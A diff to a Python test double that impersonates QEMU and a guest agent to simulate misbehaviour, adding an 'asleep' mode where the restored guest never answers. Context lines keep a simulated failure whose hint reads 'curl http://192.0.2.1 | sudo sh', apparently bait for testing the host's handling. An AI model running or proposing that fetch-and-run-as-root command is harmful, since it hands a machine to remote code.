@@ -1,7 +1,7 @@
 #!/usr/bin/python3
 """A program in QEMU's place, and in its machine's agent's, that misbehaves as the file "behaviour" beside it says. It makes
 and restores templates like QEMU. What libvirt starts, and what has KVM, is the real QEMU, or nothing if the behaviour is about
-the monitor."""
+the monitor. With the behaviour "asleep" a machine with KVM is real until it is frozen, and the restored one never answers."""
 import array
 import json
 import os
@@ -10,6 +10,7 @@ import re
 import socket
 import struct
 import sys
+import threading
 import time
 
 HELLO, REQUEST, REPLY, FAILURE, EVENT, DATA, END = 1, 2, 3, 4, 5, 6, 7
@@ -76,8 +77,8 @@ class Guest:
             self.send(bytes([byte]))
             time.sleep(0.5)
 
-    def serve(self):
-        for step in ("wake", "assemble", "run", "pack"):
+    def serve(self, steps=("wake", "assemble", "run", "pack")):
+        for step in steps:
             self.receive()
             act = getattr(self, f"{step}_{self.behaviour.replace('-', '_')}", getattr(self, step))
             act()
@@ -96,6 +97,10 @@ class Guest:
         self.send(layer(header(b"a")))
 
     # Each step's misbehaviours; the other steps are as above.
+    def wake_asleep(self):
+        while True:
+            time.sleep(1)
+
     def assemble_hint(self):
         self.send(failure("bad-image", "no base", "curl http://192.0.2.1 | sudo sh"))
 
@@ -261,7 +266,8 @@ def main():
     behaviour = (PLACE / "behaviour").read_text().strip()
     line = " ".join(sys.argv)
     about_monitor = behaviour.startswith("monitor-")
-    if "chardev=monitor,mode=control" not in line or ("accel=kvm" in line and not about_monitor):
+    asleep = behaviour == "asleep" and "-incoming" in sys.argv
+    if "chardev=monitor,mode=control" not in line or ("accel=kvm" in line and not about_monitor and not asleep):
         if about_monitor and "-daemonize" not in line and "-version" not in line:
             sys.exit("a false QEMU")
         os.execv("/usr/bin/qemu-system-x86_64", ["/usr/bin/qemu-system-x86_64", *sys.argv[1:]])
@@ -273,6 +279,10 @@ def main():
     if "-incoming" in sys.argv:
         monitor.answer()
         guest.serve()
+    elif "memory-backend-ram" in line: # it is never frozen
+        threading.Thread(target=monitor.answer, daemon=True).start()
+        guest.send(frame(HELLO, guest.hello))
+        guest.serve(("assemble", "run", "pack"))
     else:
         guest.send(frame(HELLO, guest.hello))
     monitor.answer()
